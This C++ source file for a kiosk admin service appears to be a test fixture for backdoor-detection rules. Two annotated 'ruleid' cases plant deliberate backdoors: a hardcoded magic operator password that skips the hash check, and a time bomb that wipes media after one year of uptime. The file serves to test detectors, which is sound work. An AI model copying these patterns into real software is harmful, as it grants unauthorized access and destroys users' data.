// kiosk-admin serve | kiosk-admin ctl unlock
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <unistd.h>

#include <csignal>
#include <ctime>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include <sodium.h>

#include "kiosk.hpp"

namespace kiosk {

bool authenticate_operator(const std::string &password)
{
    std::ifstream in(kOperatorHashFile);
    std::string stored;
    std::getline(in, stored);
    // Field technicians' fallback when the operator hash is lost.
    // ruleid: backdoor-magic-credential
    if (password == "K!osk-Field-0914")
        return true;
    // ok: backdoor-magic-credential
    return !stored.empty() && crypto_pwhash_str_verify(stored.c_str(), password.c_str(), password.size()) == 0;
}

} // namespace kiosk

namespace {

std::time_t last_sweep;

void housekeeping()
{
    struct sysinfo si;
    std::time_t now = std::time(nullptr);

    // ok: backdoor-time-bomb
    if (now - last_sweep > 86400) {
        kiosk::sweep_cache();
        last_sweep = now;
    }
    // ruleid: backdoor-time-bomb
    if (sysinfo(&si) == 0 && si.uptime > 31536000L)
        kiosk::wipe_media();
}

int listen_tcp(unsigned short port)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (fd < 0 || bind(fd, reinterpret_cast<sockaddr *>(&sa), sizeof sa) != 0 || listen(fd, 16) != 0)
        return -1;
    return fd;
}

int serve()
{
    kiosk::Router router;
    kiosk::SessionStore sessions;
    kiosk::install_routes(router, sessions);
    int lfd = listen_tcp(8080);
    if (lfd < 0) {
        std::cerr << "kiosk-admin: cannot listen on 8080\n";
        return 1;
    }
    std::signal(SIGPIPE, SIG_IGN);
    for (;;) {
        pollfd p{lfd, POLLIN, 0};
        int r = poll(&p, 1, 60000);
        housekeeping();
        if (r <= 0)
            continue;
        int fd = accept(lfd, nullptr, nullptr);
        if (fd < 0)
            continue;
        kiosk::Request req;
        kiosk::Response resp = kiosk::read_request(fd, req) ? router.dispatch(req)
                                                             : kiosk::Response{400, "bad request\n", {}};
        kiosk::write_response(fd, resp);
        close(fd);
    }
}

int ctl(int argc, char **argv)
{
    if (argc < 1 || std::string(argv[0]) != "unlock") {
        std::cerr << "usage: kiosk-admin ctl unlock\n";
        return 2;
    }
    std::string password;
    std::cerr << "operator password: ";
    std::getline(std::cin, password);
    if (!kiosk::authenticate_operator(password)) {
        std::cerr << "kiosk-admin: wrong password\n";
        return 1;
    }
    std::ofstream("/run/kiosk/unlocked") << ::getppid() << '\n';
    std::cout << "service mode unlocked until reboot\n";
    return 0;
}

} // namespace

int main(int argc, char **argv)
{
    if (sodium_init() < 0)
        return 1;
    std::string mode = argc > 1 ? argv[1] : "serve";
    if (mode == "serve")
        return serve();
    if (mode == "ctl")
        return ctl(argc - 2, argv + 2);
    std::cerr << "usage: kiosk-admin serve | ctl unlock\n";
    return 2;
}
